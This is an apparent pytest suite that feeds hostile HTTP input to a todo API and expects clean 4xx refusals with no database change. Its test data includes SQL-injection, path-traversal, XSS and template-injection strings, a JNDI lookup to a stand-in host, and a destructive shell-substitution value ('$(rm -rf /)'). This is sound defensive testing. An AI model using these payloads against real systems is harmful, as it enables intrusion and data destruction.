"""A corpus of hostile input sent through HTTP.

Each input gets one specific 4xx problem (never a 5xx) and leaves the database exactly as it was;
text that merely looks dangerous (SQL, path traversal, markup) is valid and stored literally.
"""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from support import assert_problem, count_rows, create_task, snapshot, stored_task
from todo_api.settings import Settings

USER = "alice"
TASKS = f"/api/{USER}/tasks"
JSON = {"content-type": "application/json"}
MiB = 1024 * 1024

# Every endpoint that reads a JSON body: (method, path after the collection, {task} = a task id).
BODY_TARGETS = [
    pytest.param("POST", "", id="create"),
    pytest.param("PUT", "/{task}", id="replace"),
    pytest.param("PATCH", "/{task}", id="update"),
    pytest.param("PATCH", "/{task}/complete", id="complete"),
]
# The endpoints whose body holds title and description.
TEXT_TARGETS = BODY_TARGETS[:3]


async def assert_refused(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    method: str,
    suffix: str,
    status: int,
    *,
    content: bytes | AsyncIterator[bytes] | None = None,
    headers: dict[str, str] | None = None,
) -> dict[str, Any]:
    """Send raw `content` to an endpoint of an existing task; expect `status` and no change."""
    task = await create_task(client, description="2 litres")
    before = await snapshot(engine, task["id"])

    url = TASKS + suffix.format(task=task["id"])
    response = await client.request(method, url, content=content, headers=headers)

    problem = assert_problem(response, status)
    assert await snapshot(engine, task["id"]) == before
    return problem


def named_fields(problem: dict[str, Any]) -> set[str]:
    errors = problem.get("errors")
    assert isinstance(errors, list) and errors, problem
    return {error["field"] for error in errors}


def text_body(field: str, json_string: str) -> bytes:
    """A body whose `field` is the JSON string literal `json_string` (escapes kept as written)."""
    if field == "title":
        return b'{"title":"' + json_string.encode() + b'"}'
    return b'{"title":"x","description":"' + json_string.encode() + b'"}'


# --- characters that cannot be stored ---------------------------------------------------------


@pytest.mark.parametrize(("method", "suffix"), TEXT_TARGETS)
@pytest.mark.parametrize("field", ["title", "description"])
@pytest.mark.parametrize("text", ["\\u0000", "a\\u0000b", "abc\\u0000"], ids=["only", "mid", "end"])
async def test_nul_character_is_rejected(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str, field: str, text: str
) -> None:
    problem = await assert_refused(
        client, engine, method, suffix, 422, content=text_body(field, text), headers=JSON
    )
    assert named_fields(problem) == {field}


@pytest.mark.parametrize(("method", "suffix"), TEXT_TARGETS)
@pytest.mark.parametrize("field", ["title", "description"])
@pytest.mark.parametrize(
    "text",
    ["\\ud800", "\\udfff", "a\\ud83db", "\\ude00\\ud83d"],
    ids=["high", "low", "high-then-text", "reversed-pair"],
)
async def test_lone_surrogate_is_rejected(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str, field: str, text: str
) -> None:
    problem = await assert_refused(
        client, engine, method, suffix, 422, content=text_body(field, text), headers=JSON
    )
    assert named_fields(problem) == {field}


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
async def test_lone_surrogate_in_a_field_name_is_rejected(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str
) -> None:
    content = b'{"title":"x","completed":true,"\\ud800":1}'
    await assert_refused(client, engine, method, suffix, 422, content=content, headers=JSON)


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'{"title":"\xff\xfe"}', id="ff-fe"),
        pytest.param(b'{"title":"caf\xe9"}', id="latin-1"),
        pytest.param(b'{"title":"\xc3\x28"}', id="bad-continuation"),
        pytest.param(b'{"title":"\xc0\xaf"}', id="overlong"),
        pytest.param(b'{"title":"\xed\xa0\x80"}', id="encoded-surrogate"),
        pytest.param(b'{"title":"\xf4\x90\x80\x80"}', id="beyond-u10ffff"),
        pytest.param(b'{"title":"x", "completed": true}\x80', id="trailing-byte"),
    ],
)
async def test_invalid_utf8_body_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str, content: bytes
) -> None:
    await assert_refused(client, engine, method, suffix, 400, content=content, headers=JSON)


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'{"title": "x"', id="unterminated"),
        pytest.param(b"{'title': 'x'}", id="single-quotes"),
        pytest.param(b'{"title": "x",}', id="trailing-comma"),
        pytest.param(b'{"title": "x"} {"title": "y"}', id="two-documents"),
        pytest.param(b'{"title": "a\x00b"}', id="raw-nul-byte"),
        pytest.param(b'{"title": "a\nb"}', id="raw-newline-in-string"),
        pytest.param(b"\x00\x00\x00\x00", id="nul-bytes"),
        pytest.param(b"\xef\xbb\xbf", id="bom-only"),
        pytest.param(b"<task><title>x</title></task>", id="xml"),
        pytest.param(b"title=x", id="form-encoded"),
    ],
)
async def test_invalid_json_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str, content: bytes
) -> None:
    await assert_refused(client, engine, method, suffix, 400, content=content, headers=JSON)


# Numbers a JSON parser may turn into floats or big ints; none of them is text.
NUMBER_LITERALS = ["NaN", "-Infinity", "1e999", "1" * 30]


@pytest.mark.parametrize(("method", "suffix"), TEXT_TARGETS)
@pytest.mark.parametrize("field", ["title", "description"])
@pytest.mark.parametrize("literal", NUMBER_LITERALS)
async def test_number_where_a_string_belongs_is_rejected(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    method: str,
    suffix: str,
    field: str,
    literal: str,
) -> None:
    others = b'"description":"x"' if field == "title" else b'"title":"x"'
    content = b"{" + others + b',"' + field.encode() + b'":' + literal.encode() + b"}"
    problem = await assert_refused(
        client, engine, method, suffix, 422, content=content, headers=JSON
    )
    assert named_fields(problem) == {field}


# --- parser limits ----------------------------------------------------------------------------

DEPTH = 10_000


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"[" * DEPTH + b"]" * DEPTH, id="arrays"),
        pytest.param(b'{"a":' * DEPTH + b"1" + b"}" * DEPTH, id="objects"),
        pytest.param(b'{"title":' + b"[" * DEPTH + b"]" * DEPTH + b"}", id="in-title"),
        pytest.param(b'{"title":"x","completed":' + b"1" * 5000 + b"}", id="5000-digit-number"),
    ],
)
async def test_json_beyond_parser_limits_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str, content: bytes
) -> None:
    await assert_refused(client, engine, method, suffix, 400, content=content, headers=JSON)


# --- body size --------------------------------------------------------------------------------


def padded_json(size: int) -> bytes:
    """A valid create body of exactly `size` bytes (whitespace padding)."""
    body = b'{"title":"x"}'
    return body + b" " * (size - len(body))


async def chunks(data: bytes, size: int = 8192) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
async def test_ten_megabyte_body_is_refused(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str
) -> None:
    await assert_refused(
        client, engine, method, suffix, 413, content=padded_json(10 * MiB), headers=JSON
    )


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
@pytest.mark.parametrize("extra", [1, 10 * MiB], ids=["one-byte-over", "ten-megabytes-over"])
async def test_chunked_body_over_the_limit_without_content_length_is_refused(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    settings: Settings,
    method: str,
    suffix: str,
    extra: int,
) -> None:
    task = await create_task(client)
    before = await snapshot(engine, task["id"])
    content = chunks(padded_json(settings.max_body_bytes + extra))

    url = TASKS + suffix.format(task=task["id"])
    response = await client.request(method, url, content=content, headers=JSON)

    assert "content-length" not in response.request.headers
    assert response.request.headers["transfer-encoding"] == "chunked"
    assert_problem(response, 413)
    assert await snapshot(engine, task["id"]) == before


async def test_body_of_exactly_the_limit_is_accepted(
    client: httpx.AsyncClient, engine: AsyncEngine, settings: Settings
) -> None:
    content = padded_json(settings.max_body_bytes)

    declared = await client.post(TASKS, content=content, headers=JSON)
    chunked = await client.post(TASKS, content=chunks(content), headers=JSON)

    assert declared.status_code == 201, declared.text
    assert chunked.status_code == 201, chunked.text
    assert await count_rows(engine) == 2


async def test_body_one_byte_over_the_limit_is_refused(
    client: httpx.AsyncClient, engine: AsyncEngine, settings: Settings
) -> None:
    await assert_refused(
        client,
        engine,
        "POST",
        "",
        413,
        content=padded_json(settings.max_body_bytes + 1),
        headers=JSON,
    )


def ten_megabytes(kind: str) -> bytes | AsyncIterator[bytes]:
    content = padded_json(10 * MiB)
    return content if kind == "declared" else chunks(content)


@pytest.mark.parametrize("kind", ["declared", "chunked"])
async def test_ten_megabyte_body_on_a_delete_is_refused_and_deletes_nothing(
    client: httpx.AsyncClient, engine: AsyncEngine, kind: str
) -> None:
    # DELETE takes no body; a huge one must still be refused before anything is removed.
    await assert_refused(client, engine, "DELETE", "/{task}", 413, content=ten_megabytes(kind))


@pytest.mark.parametrize("kind", ["declared", "chunked"])
async def test_ten_megabyte_body_on_a_bulk_delete_is_refused_and_deletes_nothing(
    client: httpx.AsyncClient, engine: AsyncEngine, kind: str
) -> None:
    done = await create_task(client, completed=True)
    before = await snapshot(engine, done["id"])

    response = await client.request(
        "DELETE", TASKS, params={"completed": "true"}, content=ten_megabytes(kind)
    )

    assert_problem(response, 413)
    assert await snapshot(engine, done["id"]) == before


# --- media type -------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "suffix"), BODY_TARGETS)
@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "text/plain; charset=utf-8",
        "text/json",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/octet-stream",
        "application/jsonx",
        None,
    ],
)
async def test_body_that_is_not_declared_as_json_is_refused(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    method: str,
    suffix: str,
    content_type: str | None,
) -> None:
    headers = {"content-type": content_type} if content_type else None
    content = b'{"title":"x","completed":true}'
    await assert_refused(client, engine, method, suffix, 415, content=content, headers=headers)


@pytest.mark.parametrize(("method", "suffix"), TEXT_TARGETS)
@pytest.mark.parametrize("headers", [JSON, None], ids=["json", "no-content-type"])
async def test_empty_body_is_rejected_where_one_is_required(
    client: httpx.AsyncClient,
    engine: AsyncEngine,
    method: str,
    suffix: str,
    headers: dict[str, str] | None,
) -> None:
    problem = await assert_refused(
        client, engine, method, suffix, 422, content=b"", headers=headers
    )
    assert problem["errors"][0]["location"] == "body"
    assert problem["errors"][0]["type"] == "missing"


# --- text that looks dangerous but is valid ---------------------------------------------------

SUSPICIOUS_TEXT = [
    "'; DROP TABLE tasks; --",
    "Robert'); DROP TABLE users;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "x' UNION SELECT id, user_id, title FROM tasks --",
    "%' OR title LIKE '%",
    "\\'; --",
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n %x",
    "$(rm -rf /) `id` | cat",
    "null",
    "undefined",
    "\\u0000 written out",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "zero\N{ZERO WIDTH JOINER}width\N{ZERO WIDTH SPACE}",
    "\N{PILE OF POO}\N{GRINNING FACE} e\N{COMBINING ACUTE ACCENT}",
    "\N{CJK UNIFIED IDEOGRAPH-4E2D}\N{CJK UNIFIED IDEOGRAPH-6587}",
    "\ufeffbom first",
    "\N{REPLACEMENT CHARACTER}",
]


@pytest.mark.parametrize("text", SUSPICIOUS_TEXT)
async def test_suspicious_text_is_stored_and_returned_literally(
    client: httpx.AsyncClient, engine: AsyncEngine, text: str
) -> None:
    bystander = await create_task(client, user="bob")

    response = await client.post(TASKS, json={"title": text, "description": text})

    assert response.status_code == 201, response.text
    task = response.json()
    assert (task["title"], task["description"]) == (text, text)
    row = await stored_task(engine, task["id"])
    assert row is not None and (row["title"], row["description"]) == (text, text)
    fetched = await client.get(f"{TASKS}/{task['id']}")
    assert fetched.json() == task
    listed = await client.get(TASKS)
    assert listed.json()["items"] == [task]
    # Nothing else was touched: the other user's task and both users are still there.
    assert await stored_task(engine, bystander["id"]) is not None
    assert (await count_rows(engine, "tasks"), await count_rows(engine, "users")) == (2, 2)


@pytest.mark.parametrize("text", SUSPICIOUS_TEXT[:8])
async def test_suspicious_text_round_trips_through_put_and_patch(
    client: httpx.AsyncClient, engine: AsyncEngine, text: str
) -> None:
    task = await create_task(client)
    url = f"{TASKS}/{task['id']}"

    replaced = await client.put(url, json={"title": text, "description": text})
    assert replaced.status_code == 200, replaced.text
    patched = await client.patch(url, json={"description": text + text})
    assert patched.status_code == 200, patched.text

    row = await stored_task(engine, task["id"])
    assert row is not None and (row["title"], row["description"]) == (text, text + text)
    assert await count_rows(engine) == 1


@pytest.mark.parametrize(
    "user",
    ["'OR'1'='1", "alice'--", "alice;DROP", "*", "%", "_", "alice%", "<b>", "a?b", "a#b", "a&b=c"],
)
async def test_user_id_with_special_characters_is_only_an_id(
    client: httpx.AsyncClient, engine: AsyncEngine, user: str
) -> None:
    alices = await create_task(client)

    mine = await create_task(client, user=user, title="mine")

    assert mine["user_id"] == user
    row = await stored_task(engine, mine["id"])
    assert row is not None and row["user_id"] == user
    listed = await client.get(f"/api/{quote(user, safe='')}/tasks")
    assert [item["id"] for item in listed.json()["items"]] == [mine["id"]]
    alices_list = await client.get(TASKS)
    assert [item["id"] for item in alices_list.json()["items"]] == [alices["id"]]


# --- hostile path and query parameters --------------------------------------------------------


@pytest.mark.parametrize(
    "task_id",
    ["1 OR 1=1", "' OR '1'='1", "1; DROP TABLE tasks", "*", "%", "..\\..\\etc\\passwd"],
)
async def test_sql_or_wildcards_as_task_id_are_rejected(
    client: httpx.AsyncClient, engine: AsyncEngine, task_id: str
) -> None:
    task = await create_task(client)
    before = await snapshot(engine, task["id"])

    response = await client.delete(f"{TASKS}/{quote(task_id, safe='')}")

    problem = assert_problem(response, 422)
    assert named_fields(problem) == {"task_id"}
    assert await snapshot(engine, task["id"]) == before


@pytest.mark.parametrize(
    "path",
    [
        "/api/alice/tasks/../../etc/passwd",
        "/api/alice/tasks/..%2F..%2Fetc%2Fpasswd",
        "/api/alice/tasks/%2E%2E/%2E%2E/etc/passwd",
        "/api/../../../etc/passwd",
        "/api/alice/..%2Fbob/tasks",
    ],
)
async def test_path_traversal_finds_no_route(
    client: httpx.AsyncClient, engine: AsyncEngine, path: str
) -> None:
    task = await create_task(client)
    before = await snapshot(engine, task["id"])

    for method in ("GET", "DELETE"):
        response = await client.request(method, path)
        assert_problem(response, 404)
    assert await snapshot(engine, task["id"]) == before


@pytest.mark.parametrize(
    ("method", "suffix"),
    [
        ("GET", ""),
        ("POST", ""),
        ("DELETE", "?completed=true"),
        ("GET", "/stats"),
        ("GET", "/{task}"),
        ("PUT", "/{task}"),
        ("PATCH", "/{task}"),
        ("DELETE", "/{task}"),
        ("PATCH", "/{task}/complete"),
    ],
)
async def test_empty_user_id_finds_no_route(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str
) -> None:
    task = await create_task(client, completed=True)
    before = await snapshot(engine, task["id"])
    body = {"title": "x"} if method in ("POST", "PUT", "PATCH") else None

    response = await client.request(
        method, "/api//tasks" + suffix.format(task=task["id"]), json=body
    )

    assert_problem(response, 404)
    assert await snapshot(engine, task["id"]) == before


# Starlette percent-decodes the path and query with errors="replace": unchecked, these bytes
# would arrive as U+FFFD, and "%FF" and "%FE" would be one and the same user.
INVALID_UTF8_IN_URL = [
    pytest.param("%FF", id="ff"),
    pytest.param("ali%C3%28ce", id="bad-continuation"),
    pytest.param("%C0%AF", id="overlong"),
    pytest.param("%ED%A0%80", id="encoded-lone-surrogate"),
]


@pytest.mark.parametrize("user", INVALID_UTF8_IN_URL)
async def test_invalid_utf8_in_the_user_id_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, user: str
) -> None:
    before = await snapshot(engine)

    response = await client.post(f"/api/{user}/tasks", json={"title": "x"})

    assert_problem(response, 400)
    assert await snapshot(engine) == before


@pytest.mark.parametrize("q", INVALID_UTF8_IN_URL)
async def test_invalid_utf8_in_the_search_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, q: str
) -> None:
    await create_task(client, title="\N{REPLACEMENT CHARACTER}")

    response = await client.get(f"{TASKS}?q={q}")

    assert_problem(response, 400)
    assert await count_rows(engine) == 1


@pytest.mark.parametrize("text", SUSPICIOUS_TEXT[:13])
async def test_sql_and_paths_as_search_terms_match_only_literally(
    client: httpx.AsyncClient, engine: AsyncEngine, text: str
) -> None:
    target = await create_task(client, title=f"before {text} after")
    await create_task(client, title="plain")
    await create_task(client, user="bob", title=text)

    response = await client.get(TASKS, params={"q": text})

    assert response.status_code == 200, response.text
    assert response.json()["items"] == [target]
    assert await count_rows(engine) == 3


@pytest.mark.parametrize("limit", ["1; DROP TABLE tasks", "1 OR 1=1", "' OR '1'='1", "1e3"])
async def test_sql_as_limit_is_rejected(
    client: httpx.AsyncClient, engine: AsyncEngine, limit: str
) -> None:
    await create_task(client)

    response = await client.get(TASKS, params={"limit": limit})

    problem = assert_problem(response, 422)
    assert named_fields(problem) == {"limit"}
    assert await count_rows(engine) == 1


# --- cursors ----------------------------------------------------------------------------------


def encode_cursor(payload: Any) -> str:
    raw = json.dumps(payload).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


HEX_ID = "0" * 32
GARBAGE_CURSORS = [
    pytest.param("' OR 1=1 --", id="sql"),
    pytest.param("not a cursor", id="words"),
    pytest.param("!!!!", id="punctuation"),
    pytest.param("====", id="padding-only"),
    pytest.param("A", id="one-char"),
    pytest.param("\N{LATIN SMALL LETTER E WITH ACUTE}", id="non-ascii"),
    pytest.param("\x00", id="nul"),
    pytest.param(base64.urlsafe_b64encode(bytes(range(48))).decode(), id="random-base64"),
    pytest.param(base64.urlsafe_b64encode(b"\xff\xfe\xfd").decode(), id="base64-of-non-utf8"),
    pytest.param(encode_cursor({"created_at": "2024-01-01T00:00:00+00:00"}), id="object"),
    pytest.param(encode_cursor([]), id="empty-list"),
    pytest.param(encode_cursor(None), id="null"),
    pytest.param(encode_cursor("ab"), id="two-char-string"),
    pytest.param(encode_cursor(12), id="number"),
    pytest.param(encode_cursor([1, 2]), id="numbers"),
    pytest.param(encode_cursor([None, HEX_ID]), id="null-time"),
    pytest.param(encode_cursor(["yesterday", HEX_ID]), id="words-for-time"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00", HEX_ID]), id="time-without-zone"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00+00:00", "not-hex"]), id="id-not-hex"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00+00:00", None]), id="id-null"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00+00:00", 123]), id="id-number"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00+00:00", [HEX_ID]]), id="id-list"),
    pytest.param(encode_cursor(["2024-01-01T00:00:00+00:00", HEX_ID, 3]), id="three-items"),
    pytest.param(encode_cursor(["0001-01-01T00:00:00+14:00", HEX_ID]), id="time-before-year-1"),
    pytest.param(encode_cursor(["9999-12-31T23:59:59-14:00", HEX_ID]), id="time-after-year-9999"),
]


@pytest.mark.parametrize("cursor", GARBAGE_CURSORS)
async def test_garbage_cursor_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, cursor: str
) -> None:
    await create_task(client)

    response = await client.get(TASKS, params={"cursor": cursor})

    assert_problem(response, 400)
    assert await count_rows(engine) == 1


def flip(cursor: str, index: int) -> str:
    """One base64 character of the cursor replaced by another (the decoded bytes change)."""
    replacement = "B" if cursor[index] == "A" else "A"
    return cursor[:index] + replacement + cursor[index + 1 :]


def resigned(cursor: str, field: int, value: Any) -> str:
    """The cursor with one field of its JSON payload changed and the original MAC kept: what an
    attacker who can read the format writes to jump elsewhere in a listing."""
    payload, mac = cursor.split(".")
    fields = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    assert fields[field] != value
    fields[field] = value
    edited = json.dumps(fields, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(edited).decode().rstrip("=") + "." + mac


async def real_cursor(client: httpx.AsyncClient) -> str:
    for title in ("one", "two", "three"):
        await create_task(client, title=title)
    page = await client.get(TASKS, params={"limit": 1})
    cursor: str = page.json()["next_cursor"]
    assert cursor
    return cursor


@pytest.mark.parametrize(
    "edit",
    [
        pytest.param(lambda cursor: cursor[: len(cursor) // 2], id="first-half"),
        pytest.param(lambda cursor: cursor[:-4], id="last-bytes-cut"),
        pytest.param(lambda cursor: cursor[len(cursor) // 2 :], id="second-half"),
        pytest.param(lambda cursor: cursor + "AAAA", id="bytes-appended"),
        pytest.param(lambda cursor: "AAAA" + cursor, id="bytes-prepended"),
        pytest.param(lambda cursor: flip(cursor, len(cursor) // 3), id="payload-character-flipped"),
        pytest.param(lambda cursor: flip(cursor, len(cursor) - 5), id="mac-character-flipped"),
        pytest.param(lambda cursor: cursor.split(".")[0], id="mac-removed"),
        pytest.param(lambda cursor: cursor.split(".")[0] + ".", id="mac-empty"),
        pytest.param(lambda cursor: cursor + "." + cursor.split(".")[1], id="second-mac"),
        pytest.param(lambda cursor: cursor.swapcase(), id="case-swapped"),
        pytest.param(lambda cursor: cursor.replace(".", "\x00."), id="nul-inserted"),
        pytest.param(lambda cursor: resigned(cursor, 3, "2000-01-01T00:00:00+00:00"), id="time"),
        pytest.param(lambda cursor: resigned(cursor, 4, "0" * 32), id="task-id"),
        pytest.param(lambda cursor: resigned(cursor, 1, "-updated_at"), id="sort"),
        pytest.param(lambda cursor: resigned(cursor, 2, "0" * 16), id="filter-scope"),
    ],
)
async def test_edited_real_cursor_is_bad_request(
    client: httpx.AsyncClient, engine: AsyncEngine, edit: Any
) -> None:
    cursor = await real_cursor(client)
    assert (await client.get(TASKS, params={"cursor": cursor})).status_code == 200

    response = await client.get(TASKS, params={"cursor": edit(cursor)})

    assert_problem(response, 400)
    assert await count_rows(engine) == 3


async def test_a_cursor_replayed_on_another_users_list_shows_only_that_users_tasks(
    client: httpx.AsyncClient,
) -> None:
    # The cursor is not bound to a user, only to a position; bob's tasks are older than that
    # position, so they are all after it, and nothing of alice's may come with them.
    bobs = [await create_task(client, user="bob", title=title) for title in ("b1", "b2")]
    cursor = await real_cursor(client)

    response = await client.get("/api/bob/tasks", params={"cursor": cursor})

    assert response.status_code == 200, response.text
    items = response.json()["items"]
    assert sorted(item["id"] for item in items) == sorted(task["id"] for task in bobs)
    assert {item["user_id"] for item in items} == {"bob"}


# --- routes and methods -----------------------------------------------------------------------

SOME_ID = "0b6a2f4e-8a1b-4c1d-9e2f-3a4b5c6d7e8f"


@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "PATCH", "DELETE"])
@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/api",
        "/api/alice",
        "/api/alice/todos",
        "/api/alice/task",
        f"/api/alice/tasks/{SOME_ID}/done",
        f"/api/alice/tasks/{SOME_ID}/complete/now",
        "/.env",
        "/admin",
        "/api/alice/tasks/x/y/z",
    ],
)
async def test_unknown_route_is_404_problem(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, path: str
) -> None:
    await create_task(client)
    body = {"title": "x"} if method in ("POST", "PUT", "PATCH") else None

    response = await client.request(method, path, json=body)

    problem = assert_problem(response, 404)
    assert path in problem["detail"]
    assert await count_rows(engine) == 1


METHOD_NOT_ALLOWED = [
    pytest.param("PUT", "", id="put-collection"),
    pytest.param("PATCH", "", id="patch-collection"),
    pytest.param("POST", "/{task}", id="post-task"),
    pytest.param("GET", "/{task}/complete", id="get-complete"),
    pytest.param("POST", "/{task}/complete", id="post-complete"),
    pytest.param("PUT", "/{task}/complete", id="put-complete"),
    pytest.param("DELETE", "/{task}/complete", id="delete-complete"),
]


@pytest.mark.parametrize(("method", "suffix"), METHOD_NOT_ALLOWED)
async def test_wrong_method_is_405_problem(
    client: httpx.AsyncClient, engine: AsyncEngine, method: str, suffix: str
) -> None:
    task = await create_task(client)
    before = await snapshot(engine, task["id"])
    body = {"title": "x"} if method in ("POST", "PUT", "PATCH") else None

    url = TASKS + suffix.format(task=task["id"])
    response = await client.request(method, url, json=body)

    problem = assert_problem(response, 405)
    assert method in problem["detail"]
    allowed = {m.strip() for m in response.headers["allow"].split(",")}
    assert method not in allowed
    assert await snapshot(engine, task["id"]) == before


SUPPORTED_METHODS = {
    "": {"GET", "POST", "DELETE"},
    "/{task}": {"GET", "PUT", "PATCH", "DELETE"},
    "/{task}/complete": {"PATCH"},
}


@pytest.mark.parametrize(("method", "suffix"), METHOD_NOT_ALLOWED)
async def test_405_allow_header_lists_every_supported_method(
    client: httpx.AsyncClient, method: str, suffix: str
) -> None:
    # RFC 9110 15.5.6: the Allow header lists the target resource's supported methods.
    task = await create_task(client)

    response = await client.request(method, TASKS + suffix.format(task=task["id"]))

    assert_problem(response, 405)
    allowed = {m.strip() for m in response.headers["allow"].split(",")}
    assert allowed - {"HEAD"} == SUPPORTED_METHODS[suffix]
